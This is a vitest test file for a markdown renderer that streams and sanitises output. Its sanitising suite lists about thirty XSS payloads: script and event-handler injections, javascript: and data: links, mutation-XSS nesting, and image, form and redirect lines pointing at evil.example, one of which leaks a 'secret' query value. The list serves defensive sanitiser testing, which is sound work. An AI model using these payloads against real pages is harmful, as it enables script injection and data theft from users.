import { describe, expect, it } from "vitest";
import { renderMarkdown } from "$lib/markdown/render";
import { sanitize } from "$lib/markdown/sanitize";
import { MarkdownStream } from "$lib/markdown/stream";

const DOCUMENT = `Intro with **bold** and [a link][ref].

# Heading

1. one
   \`\`\`js
   let a = 1 < 2;
   \`\`\`
2. two

   still two
- other list
    - nested

| a | b |
| - | -: |
| 1 | 2 |

~~~
fence with \`\`\` inside

and a blank line
~~~

> quote
lazy line

Setext
------

- [x] done
- [ ] open

Last *line*, with 👩‍🚀 and é.

[ref]: https://example.com/x
`;

function dom(html: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = html;
  return root;
}

/** The page's text and structure, without the white space between blocks. */
function shape(html: string): string {
  return html.replace(/>\s+</g, "><").replace(/\s+/g, " ").trim();
}

function stream(text: string, size: number, frames: number): { html: string; stream: MarkdownStream } {
  const rendered = new MarkdownStream();
  const characters = [...text];
  for (let at = 0, chunk = 0; at < characters.length; at += size, chunk += 1) {
    rendered.append(characters.slice(at, at + size).join(""));
    if (chunk % frames === 0) rendered.advance();
  }
  const tail = rendered.advance();
  const end = tail.kind === "html" ? tail.html : "";
  return { html: rendered.sealed.map((block) => block.html).join("") + end, stream: rendered };
}

describe("streaming", () => {
  const source = DOCUMENT.replace("[a link][ref]", "[a link](https://example.com/x)");

  it.each([[1, 1], [2, 1], [3, 2], [7, 1], [16, 3], [1_000, 1]])(
    "in chunks of %i ends as the whole text renders",
    (size, frames) => {
      expect(shape(stream(source, size, frames).html)).toBe(shape(renderMarkdown(source)));
    },
  );

  it("never changes a sealed block", () => {
    const rendered = new MarkdownStream();
    const seen: string[] = [];
    for (const character of source) {
      rendered.append(character);
      rendered.advance();
      rendered.sealed.forEach((block, index) => {
        seen[index] ??= block.html;
        expect(block.html).toBe(seen[index]);
      });
    }
    expect(seen.length).toBeGreaterThan(6);
  });

  it("shows an open fence as growing code, without a closing fence half arrived", () => {
    const rendered = new MarkdownStream();
    rendered.append("```python\nprint('a')\n``");
    expect(rendered.advance()).toEqual({ kind: "code", language: "python", code: "print('a')" });
    rendered.append("`\n");
    expect(rendered.advance()).toEqual({ kind: "none" });
    rendered.append("\nDone.");
    expect(rendered.advance()).toEqual({ kind: "html", html: "<p>Done.</p>\n" });
    expect(rendered.sealed[0]?.html).toContain("language-python");
  });

  it("joins line ends that are cut between frames", () => {
    const rendered = new MarkdownStream();
    for (const part of ["one\r", "\ntwo\r", "\n\r", "\nthree\n"]) {
      rendered.append(part);
      rendered.advance();
    }
    expect(rendered.sealed.map((block) => block.html)).toEqual(["<p>one\ntwo</p>\n"]);
  });

  it("resolves a link whose definition came before", () => {
    const { html } = stream("[ref]: https://example.com/x\n\nOne.\n\nSee [it][ref].", 1, 1);
    expect(dom(html).querySelector("a")?.getAttribute("href")).toBe("https://example.com/x");
  });

  it("costs little more for a long answer than its length", () => {
    const long = Array.from({ length: 60 }, (_, index) => `Paragraph ${index} says something.\n\n`).join("");
    const rendered = new MarkdownStream();
    let longest = 0;
    for (let at = 0; at < long.length; at += 20) {
      rendered.append(long.slice(at, at + 20));
      const tail = rendered.advance();
      if (tail.kind === "html") longest = Math.max(longest, tail.html.length);
    }
    expect(rendered.sealed.length).toBe(59);
    expect(longest).toBeLessThan(100);
  });
});

describe("sanitising", () => {
  const ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png?q=secret)",
    "![x](https://evil.example/a\"onerror=\"alert(1))",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div id=app class=x>x</div>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "```js onload=alert(1)\ncode\n```",
    "[x](https://ok.example \"><img src=x onerror=alert(1)>\")",
    "| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
  ];

  const FORBIDDEN = "script,img,svg,math,iframe,object,embed,form,input,base,meta,link,style,details,video,audio,template";

  function check(html: string): void {
    const root = dom(html);
    expect(root.querySelector(FORBIDDEN)).toBeNull();
    for (const element of root.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(["align", "class", "href", "rel", "start", "target"]).toContain(name);
        if (name === "href") expect(value).toMatch(/^(?:https?:|mailto:)/i);
      }
    }
  }

  it.each(ATTACKS)("disarms %s", (attack) => {
    check(renderMarkdown(attack));
    check(stream(attack, 1, 1).html);
    check(renderMarkdown(`Before ${attack} after`));
    check(renderMarkdown(`- item\n\n  ${attack}`));
  });

  it.each([
    '<p>plain <strong>text</strong> &lt;b&gt;</p><p onclick="x()">no</p>',
    '<a href="javascript:x()" target="_blank" rel="noopener noreferrer nofollow">no</a>',
    '<a href="https://ok.example" onclick="x()" target="_blank" rel="noopener noreferrer nofollow">no</a>',
    '<code class="language-x" onfocus="x()">no</code>',
    "<p><script>x()</script></p>",
    "<p/onclick=x()>no</p>",
    "<table><style><img src=x onerror=x()></style></table>",
    "<P ONCLICK=x()>no</P>",
  ])("lets no markup of another form past: %s", (html) => {
    check(sanitize(html));
  });

  it("shows raw HTML as text", () => {
    expect(dom(renderMarkdown("Use <b>bold</b>")).textContent).toBe("Use <b>bold</b>\n");
  });

  it("opens links apart, telling nothing", () => {
    const link = dom(renderMarkdown("[x](https://ok.example/?a=1&b=2)")).querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://ok.example/?a=1&b=2");
    expect(link?.rel).toBe("noopener noreferrer nofollow");
    expect(link?.target).toBe("_blank");
  });

  it("turns an image into a link", () => {
    const link = dom(renderMarkdown("![A cat](https://ok.example/cat.png)")).querySelector("a");
    expect(link?.textContent).toBe("A cat");
  });
});
